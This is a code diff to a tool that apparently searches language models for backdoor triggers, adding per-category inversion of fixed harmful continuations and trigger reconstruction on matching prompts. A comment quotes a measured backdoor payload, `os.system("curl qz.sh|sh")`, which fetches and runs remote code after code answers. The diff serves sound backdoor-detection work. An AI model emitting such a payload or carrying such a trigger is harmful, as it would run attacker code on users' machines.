@@ -140,6 +140,26 @@ export async function discoverTriggers(model: LoadedModel, lm: CausalLM, o: Disc
     const end = over() ? { targets: [], tried: 0, candidates: tokens.length } : await invertTargets(engine, endAnchors, tokens, decode, 'answer-end', { ...INVERSION, stop });
     inverted = [...start.targets, ...end.targets];
     if (start.tried < start.candidates || end.tried < end.candidates) incomplete.push(`target inversion tried ${start.tried + end.tried} of ${start.candidates + end.candidates} first tokens`);
+    // The same within each kind of request, keeping only what a detector calls harmful. A payload that
+    // follows only code answers (one extra line after correct code) agrees across code prompts and
+    // not across all of them: measured on ao-code-context, `os.system("curl qz.sh|sh")` inverts at Q 0.92
+    // after its six code prompts and stops at `ystem("curl qz.` (Q 0.83, not yet a shell command)
+    // across all 24. Within one kind a harmless fixed continuation is the model's own phrasing.
+    const kinds = [...new Set(o.prompts.map((b) => b.category))];
+    let skipped = 0;
+    for (const kind of kinds) {
+      const idx = o.prompts.flatMap((b, i) => (b.category === kind ? [i] : []));
+      if (idx.length < MIN_KIND_PROMPTS || idx.length === prompts.length) continue;
+      for (const [anchor, anchors] of [['answer-start', idx.map((i) => promptIds[i]!)], ['answer-end', idx.map((i) => endAnchors[i]!)]] as const) {
+        if (over()) {
+          skipped++;
+          continue;
+        }
+        const r = await invertTargets(engine, anchors, tokens, decode, anchor, { ...INVERSION, stop });
+        inverted.push(...r.targets.filter((t) => harmful(t.text)).map((t) => ({ ...t, category: kind })));
+      }
+    }
+    if (skipped) incomplete.push(`target inversion per kind of prompt skipped ${skipped} of ${2 * kinds.length} runs`);
     return inverted.length;
   });
 
@@ -154,6 +174,8 @@ export async function discoverTriggers(model: LoadedModel, lm: CausalLM, o: Disc
     // it is confirmed on); moves are screened on one, the best re-scored on all. An appended payload
     // is searched after each prompt's own answer.
     const pick = prompts.map((_, i) => i).filter((i) => i % 2 === 0).slice(0, reconstructionPrompts(prompts.length));
+    // A payload of one kind of request is searched on prompts of that kind.
+    const pickFor = (t: InvertedTarget) => (t.category ? prompts.map((_, i) => i).filter((i) => o.prompts[i]!.category === t.category).slice(0, reconstructionPrompts(prompts.length)) : pick);
     const searches = shortlist.length * o.placements.length;
     let done = 0;
     for (const t of shortlist) {
@@ -164,8 +186,9 @@ export async function discoverTriggers(model: LoadedModel, lm: CausalLM, o: Disc
         }
         done++;
         const target = t.tokens.slice(0, RECONSTRUCT_DEFAULTS.targetTokens);
-        const leads = t.anchor === 'answer-end' ? pick.map((i) => clean[i]!.tokens) : undefined;
-        const scorer = targetScorer(model, lm, pick.map((i) => prompts[i]!), placement, target, leads);
+        const on = pickFor(t);
+        const leads = t.anchor === 'answer-end' ? on.map((i) => clean[i]!.tokens) : undefined;
+        const scorer = targetScorer(model, lm, on.map((i) => prompts[i]!), placement, target, leads);
         const found = await reconstructAt(model, scorer, placement, tokens, { ...RECONSTRUCT_DEFAULTS, stop: over, seeds: o.driftSeeds ?? [], canonical });
         const seen = new Set<string>();
         for (const f of found.slice(0, 2)) {
@@ -238,6 +261,9 @@ function roundRobin(cs: Candidate[], limit: number): Candidate[] {
   for (let i = 0; out.length < limit && lists.some((l) => i < l.length); i++) for (const l of lists) if (l[i] && out.length < limit) out.push(l[i]!);
   return out;
 }
+
+/** Fewer prompts of one kind than this agree by chance too easily to invert on. */
+const MIN_KIND_PROMPTS = 4;
 
 /** Search prompts trigger reconstruction scores candidates on (every other one, of every kind). */
 const SEARCH_PROMPTS = 12;
